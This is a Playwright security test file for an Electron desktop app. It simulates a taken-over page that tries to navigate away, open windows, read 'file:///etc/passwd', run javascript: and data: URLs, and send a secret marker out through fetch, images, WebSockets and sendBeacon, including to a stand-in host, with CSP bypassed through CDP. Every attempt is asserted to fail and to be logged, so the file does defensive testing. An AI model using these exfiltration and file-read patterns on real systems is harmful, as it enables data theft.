/** A compromised page tries to get data out, bring something in, or speak for the window. */
import { createServer, type Socket } from 'node:net';
import { callChannel } from '../../electron/shell/channels.ts';
import { deniedFeatures } from '../../electron/shell/policy/policy.ts';
import { invokeBinding } from '../../electron/stand-in/page-script.ts';
import { listen } from '../../electron/testing/ears.ts';
import { leakScript } from '../../electron/testing/leaks.ts';
import { onStandIn } from '../fixtures/place.ts';
import { expect, test } from '../fixtures/program.ts';
import { call, openRegister, refusedCalls, unlock } from '../fixtures/register.ts';
import { log } from '../models/settings.ts';

test.beforeEach(async ({ program }) => {
  await openRegister(program.page);
});

test('hardening 07 enforced: a page that was taken over cannot leave, open a window, embed a page or start a download', async ({
  program,
}) => {
  const { page } = program;
  const before = page.url();
  await page.evaluate(() => {
    location.href = 'index.html?left=1';
    window.open('index.html');
    const link = document.createElement('a');
    link.href = 'https://example.org/';
    link.target = '_blank';
    const form = document.createElement('form');
    form.action = 'https://example.org/?text=hemligt';
    const download = document.createElement('a');
    download.href = URL.createObjectURL(new Blob(['hemligt']));
    download.download = 'ut.txt';
    const frame = document.createElement('iframe');
    frame.src = 'index.html';
    document.body.append(link, form, download, frame);
    link.click();
    form.submit();
    download.click();
  });
  // A call there and back, so that anything already started has finished.
  await call(page, 'users.status', {});
  expect(page.context().pages()).toHaveLength(1);
  expect(page.url()).toBe(before);
  // Evaluated in the page itself: the driver may still wait for a navigation that was cancelled.
  expect(await page.evaluate(() => document.querySelector('nav[aria-label="Huvudmeny"]') !== null)).toBe(true);
  program.takeProblems();
});

test('hardening 13 enforced: file:, http:, ftp:, data: and javascript: lead nowhere', async ({ program }) => {
  const { page } = program;
  const before = page.url();
  for (const address of [
    'file:///etc/passwd',
    'http://localhost:9/',
    'ftp://localhost/',
    'data:text/html,<h1>ut</h1>',
    'javascript:document.title="ut"',
    'chrome://version',
    'view-source:file:///etc/passwd',
  ]) {
    await page.evaluate((to) => {
      try {
        location.assign(to);
      } catch {
        // Some are refused at once.
      }
    }, address);
    await call(page, 'users.status', {});
    expect(page.url(), address).toBe(before);
    expect(await page.title(), address).not.toBe('ut');
  }
  await expect(page.getByRole('navigation', { name: 'Huvudmeny' })).toBeVisible();
  program.takeProblems();
});

test('hardening 03 enforced: even past the policy no request leaves, no socket opens, and the log tells of it', async ({ program }) => {
  const { page } = program;
  const came: string[] = [];
  const server = createServer((socket: Socket) => {
    came.push('somebody');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const { port } = server.address() as { port: number };
  // As if the policy had a hole: the shell's own refusal is the second line of defence.
  const session = await page.context().newCDPSession(page);
  await session.send('Page.setBypassCSP', { enabled: true });
  await page.keyboard.press('ControlOrMeta+l');
  await page.getByRole('heading', { level: 1, name: 'Lås upp registret' }).waitFor();
  const outcomes = await page.evaluate(async (at) => {
    const tried = async (name: string, attempt: () => Promise<unknown>): Promise<string> =>
      `${name} ${await attempt().then(
        () => 'came through',
        () => 'failed',
      )}`;
    const picture = (source: string) =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = reject;
        image.src = source;
      });
    const socket = (address: string) =>
      new Promise((resolve, reject) => {
        const opened = new WebSocket(address);
        opened.onopen = resolve;
        opened.onerror = reject;
      });
    return [
      await tried('fetch', () => fetch(`http://127.0.0.1:${at}/?text=hemligt`, { mode: 'no-cors' })),
      await tried('picture', () => picture(`http://127.0.0.1:${at}/x.png`)),
      await tried('name', () => fetch('https://hemligt.example.org/', { mode: 'no-cors' })),
      await tried('socket', () => socket(`ws://127.0.0.1:${at}/`)),
    ];
  }, port);
  await page.evaluate((at) => navigator.sendBeacon(`http://127.0.0.1:${at}/`, 'hemligt'), port);
  expect(outcomes).toEqual(['fetch failed', 'picture failed', 'name failed', 'socket failed']);
  await session.detach();
  server.close();
  expect(came).toEqual([]);

  await page.getByLabel('Lösenfras', { exact: true }).fill('korrekt häst batteri klammer');
  await page.getByRole('button', { name: 'Lås upp', exact: true }).click();
  await page.getByRole('navigation', { name: 'Huvudmeny' }).waitFor();
  await log(page).go();
  expect(await refusedCalls(program.page, 'shell.foreign-request')).toBeGreaterThanOrEqual(3);
  program.takeProblems();
});

test('hardening 03 enforced: every way out known here is tried, under the policy and past it: nobody hears it, and the log tells', async ({
  program,
}) => {
  const { page } = program;
  // A lot is recorded while locked, and entered at the unlock.
  page.setDefaultTimeout(30_000);
  const ears = await listen();
  expect(await page.evaluate(leakScript(ears))).toContain('fetch: TypeError');
  expect(ears.heard, 'under the policy').toEqual([]);
  // Chromium tells the shell what its policy refused inside the page; never its content.
  await expect.poll(() => refusedCalls(program.page, 'shell.foreign-request')).toBeGreaterThanOrEqual(8);
  const before = await refusedCalls(program.page, 'shell.foreign-request');

  const session = await page.context().newCDPSession(page);
  await session.send('Page.setBypassCSP', { enabled: true });
  await page.keyboard.press('ControlOrMeta+l');
  await page.getByRole('heading', { level: 1, name: 'Lås upp registret' }).waitFor();
  await page.evaluate(leakScript(ears));
  await session.detach();
  expect(ears.heard, 'past the policy').toEqual([]);
  ears.close();

  await unlock(page);
  expect(await refusedCalls(program.page, 'shell.foreign-request')).toBeGreaterThan(before);
  program.takeProblems();
});

test('hardening 04 enforced: what sends by itself or looks at the computer is refused to the page before it asks', async ({ program }) => {
  const allowed = await program.page.evaluate(() => {
    const { featurePolicy } = document as unknown as { featurePolicy: { allowedFeatures: () => string[] } };
    return featurePolicy.allowedFeatures();
  });
  expect(allowed.filter((feature) => deniedFeatures.includes(feature))).toEqual([]);
});

test('hardening 09 enforced: a frame inside the page is answered nothing, and the log tells that it asked', async ({ program }) => {
  const { page } = program;
  await page.evaluate(() => document.body.append(document.createElement('iframe')));
  await expect.poll(() => page.frames().length).toBe(2);
  const frame = page.frames().find((one) => one.parentFrame() !== null);
  expect(await frame?.evaluate(() => 'utvag' in window)).toBe(false);
  if (!onStandIn('Electron gives a frame inside the page no way to ask: there the check of the sender has unit tests')) return;
  // On the stand-in a frame can reach what is below the bridge, so it is the shell's own check that answers.
  const reply = await frame?.evaluate(
    ([binding, channel, text]) => {
      const send = (window as unknown as Record<string, ((text: string) => Promise<string>) | undefined>)[binding];
      return send?.(
        JSON.stringify([
          ['value', channel],
          ['value', text],
          ['list', []],
        ]),
      );
    },
    [invokeBinding, callChannel, JSON.stringify({ procedure: 'participants.list', input: {} })] as const,
  );
  expect(JSON.parse(reply ?? 'null')).toEqual({ result: { ok: false, error: { code: 'forbidden' } }, changed: [] });
  expect(await refusedCalls(program.page, 'shell.foreign-sender')).toBe(1);
});
